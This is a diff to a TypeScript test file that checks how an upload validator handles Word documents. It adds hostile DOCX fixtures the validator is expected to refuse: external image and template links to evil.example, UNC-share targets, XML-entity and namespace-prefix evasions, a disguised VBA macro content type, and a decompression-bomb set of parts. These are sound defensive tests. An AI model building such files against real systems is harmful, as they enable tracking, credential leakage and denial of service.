@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it, test } from 'vitest';
 import { inChunks, newStore, resume } from '../test-kit';
-import { compoundOf, docOf, docxOf, zipOf } from './test-kit';
+import { compoundOf, docOf, docxOf, MAIN, zipOf } from './test-kit';
 import { textOfWord } from './word';
 
 const cv: typeof resume = { ...resume, accept: [...resume.accept, 'doc', 'docx'] };
@@ -69,6 +69,20 @@ const rels = (type: string, target: string) => ({
   name: 'word/_rels/settings.xml.rels',
   content: `<Relationships><Relationship Id=">" Type='http://schemas.example/relationships/${type}' Target = "${target}" TargetMode="External"/></Relationships>`,
 });
+/** The same, as somebody else would call its tags. */
+const named = (prefix: string, { name, content }: ReturnType<typeof rels>) => ({
+  name,
+  content: content.replaceAll('<Relationship ', `<${prefix}:Relationship `),
+});
+const hidden = {
+  name: '_rels/.rels',
+  content: `<!DOCTYPE a [<!ENTITY far "https:">]>${rels('image', '&far;//evil.example/a.png').content}`,
+};
+/** Half a megabyte in the post, two hundred when it is unpacked. */
+const lists = Array.from({ length: 390 }, (_, n) => ({
+  name: `word/_rels/${n}.xml.rels`,
+  content: '<Relationship a="b"/>'.repeat(25_000),
+}));
 const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';
 const page = Buffer.concat([Buffer.alloc(20), Buffer.from('<script>alert(1)</script>')]);
 
@@ -122,6 +136,15 @@ const hostile: [string, Buffer][] = [
   ['something before its start', Buffer.concat([Buffer.from('PK\x03\x04junk'), docxOf(['x'])])],
   ['a template from afar', docxOf(['x'], [rels('attachedTemplate', '&#104;ttp://evil.example/a.dotm')])],
   ['an object from a share', docxOf(['x'], [rels('oleObject', '\\\\evil.example\\a')])],
+  ['a picture from a share', docxOf(['x'], [rels('image', '\\/evil.example/a.png')])],
+  ['a picture that tells who has opened it', docxOf(['x'], [rels('image', 'https://evil.example/a.png')])],
+  ['a picture by another name', docxOf(['x'], [named('a-b.c', rels('image', 'https://evil.example/a.png'))])],
+  ['names of its own', docxOf(['x'], [hidden])],
+  [
+    'macros in other letters',
+    docxOf(['x'], [], `${MAIN}"/><Override PartName="/word/a.bin" ContentType="application/vba&#80;roject`),
+  ],
+  ['lists that are work without end', docxOf(['x'], lists)],
   ['a table of Excel, of old', compoundOf({ Workbook: Buffer.alloc(5000) })],
   ['a mail', compoundOf({ '__properties_version1.0': Buffer.alloc(5000) })],
   ['a document of old with macros', docOf('x', '', { Macros: undefined })],
@@ -150,6 +173,7 @@ describe('what is taken for a document', () => {
       /\.docx$/,
       /document$/,
     ],
+    ['one with a picture in it', docxOf(['x'], [rels('image', 'media/image1.png')]), /\.docx$/, /document$/],
     ['one with a link', docxOf(['x'], [rels('hyperlink', 'https://ravi.example')]), /\.docx$/, /document$/],
   ])('takes %s', async (_what, content, key, type) => {
     const { store } = await newStore('disk');
